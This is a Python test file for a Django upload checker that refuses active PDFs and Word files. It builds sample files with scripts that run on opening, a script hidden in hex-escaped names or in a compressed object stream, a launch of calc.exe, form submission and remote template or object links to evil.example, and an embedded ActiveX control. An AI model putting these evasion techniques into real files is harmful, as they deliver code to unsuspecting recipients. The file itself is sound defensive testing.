"""A file that would do something when it is opened is refused, in a sentence that says how to fix it (K16)."""

import zlib

import pytest
from django.test import override_settings

from findings import Refused
from tests.pdfs import PDF, pdf
from tests.web.test_uploads import WORD_TYPES, archive, docx, refusal, xlsx
from web.uploads.kinds import inspect

SCRIPT = b"<< /S /JavaScript /JS (app.alert(1)) >>"
RELATIONS = b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">%s</Relationships>'
RELATION = b'<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/%s" Target="http://evil.example/x"%s/>'
EXTERNAL = b' TargetMode="External"'


def in_object_stream(content):
    """A PDF whose object 4 is `content` within a compressed stream: no plain search of the file finds a word of it."""
    packed = zlib.compress(b"4 0 " + content)
    stream = b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream" % (len(packed), packed)
    pages, page = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>"
    parts = {1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>", 2: pages, 3: page, 5: stream}
    body, places = b"%PDF-1.7\n", {}
    for number, part in parts.items():
        places[number] = len(body).to_bytes(2, "big")
        body += b"%d 0 obj\n%s\nendobj\n" % (number, part)
    plain = {number: b"\1" + place + b"\0" for number, place in places.items()}
    rows = [b"\0\0\0\xff", plain[1], plain[2], plain[3], b"\2\0\5\0", plain[5], b"\1" + len(body).to_bytes(2, "big") + b"\0"]
    table = b"".join(rows)
    xref = b"6 0 obj\n<< /Type /XRef /Size 7 /W [1 2 1] /Root 1 0 R /Length %d >>\nstream\n%s\nendstream\nendobj\n" % (len(table), table)
    return body + xref + b"startxref\n%d\n%%%%EOF\n" % len(body)


ACTIVE = {
    "a script on opening": pdf(catalog=b"/OpenAction " + SCRIPT),
    "a script among the names": pdf(catalog=b"/Names << /JavaScript << /Names [(a) " + SCRIPT + b"] >> >>"),
    "a script under a name in hex": pdf(catalog=b"/OpenAction << /S /#4aava#53cript /#4a#53 (x) >>"),
    "a script in a compressed stream": in_object_stream(SCRIPT),
    "a program to start": pdf(b"<< /S /Launch /F (calc.exe) >>", catalog=b"/OpenAction 4 0 R"),
    "a form that sends itself": pdf(b"<< /S /SubmitForm /F (http://evil.example) >>", catalog=b"/OpenAction 4 0 R"),
    "files attached": pdf(catalog=b"/Names << /EmbeddedFiles << /Names [] >> >>"),
    "a file on a page": pdf(b"<< /Type /Filespec /EF << /F 5 0 R >> >>", b"<< /Length 0 >>\nstream\n\nendstream", catalog=b"/AF [4 0 R]"),
    "an XFA form": pdf(catalog=b"/AcroForm << /XFA (x) >>"),
    "not a PDF inside": b"%PDF-1.7\n1 0 obj\n<<>>\nendobj\n%%EOF\n",
}  # fmt: skip


@pytest.mark.parametrize("content", ACTIVE.values(), ids=ACTIVE)
def test_a_pdf_that_acts_is_refused_however_it_hides_it(content):
    assert refusal(content, "a.pdf") == {"file-active"}


def test_the_sentence_says_what_is_wrong_and_how_to_fix_it():
    with pytest.raises(Refused) as refused:
        inspect(ACTIVE["a script on opening"], "a.pdf")
    [finding] = refused.value.findings
    assert (finding.message, finding.remedy) == (
        "The PDF contains scripts or media that run when it is opened.",
        "Print it to a new PDF, and add that.",
    )


def test_bytes_before_the_header_are_what_scanners_write():
    """K16: readers look within the first 1,024 bytes, and so do we."""
    assert inspect(pdf(header=b"\x1b%-12345X@PJL JOB\r\n%PDF-1.7\n"), "scan.pdf").content_type == "application/pdf"
    assert refusal(b" " * 1100 + PDF, "scan.pdf") == {"file-kind"}


OFFICE = {
    "a template from elsewhere": {"word/_rels/settings.xml.rels": RELATIONS % (RELATION % (b"attachedTemplate", EXTERNAL))},
    "a picture from elsewhere": {"word/_rels/document.xml.rels": RELATIONS % (RELATION % (b"image", EXTERNAL))},
    "an object from elsewhere": {"word/_rels/document.xml.rels": RELATIONS % (RELATION % (b"oleObject", EXTERNAL))},
    "an object inside": {"word/_rels/document.xml.rels": RELATIONS % (RELATION % (b"oleObject", b""))},
    "a file inside": {"word/embeddings/oleObject1.bin": b"x"},
    "a document type": {"word/footer1.xml": b'<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'},
    "a document type in UTF-16": {"word/footer1.xml": '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x [<!ENTITY a "b">]><x/>'.encode("utf-16")},
    "a control": {"word/activeX/activeX1.xml": b"<x/>"},
}  # fmt: skip


@pytest.mark.parametrize("parts", OFFICE.values(), ids=OFFICE)
def test_a_word_file_that_fetches_or_runs_something_is_refused(parts):
    assert refusal(docx(**parts), "a.docx") == {"file-active"}


def test_a_link_that_someone_clicks_is_fine_and_so_is_what_excel_writes():
    link = RELATIONS % (RELATION % (b"hyperlink", EXTERNAL))
    assert inspect(
        archive(**{"[Content_Types].xml": WORD_TYPES, "word/document.xml": b"<d/>", "word/_rels/document.xml.rels": link}), "a.docx"
    )
    assert inspect(xlsx(), "a.xlsx")


def scanner(content, name):
    if b"EICAR" in content:
        return "test virus"
    if b"broken" in content:
        raise ConnectionError
    return None


@override_settings(UPLOAD_SCANNER="tests.web.test_active_content.scanner")
def test_a_scanner_decides_and_one_that_fails_takes_nothing():
    assert inspect(b"minutes", "a.txt")
    assert refusal(b"EICAR", "a.txt") == {"file-scan"}
    assert refusal(b"broken", "a.txt") == {"file-scan"}
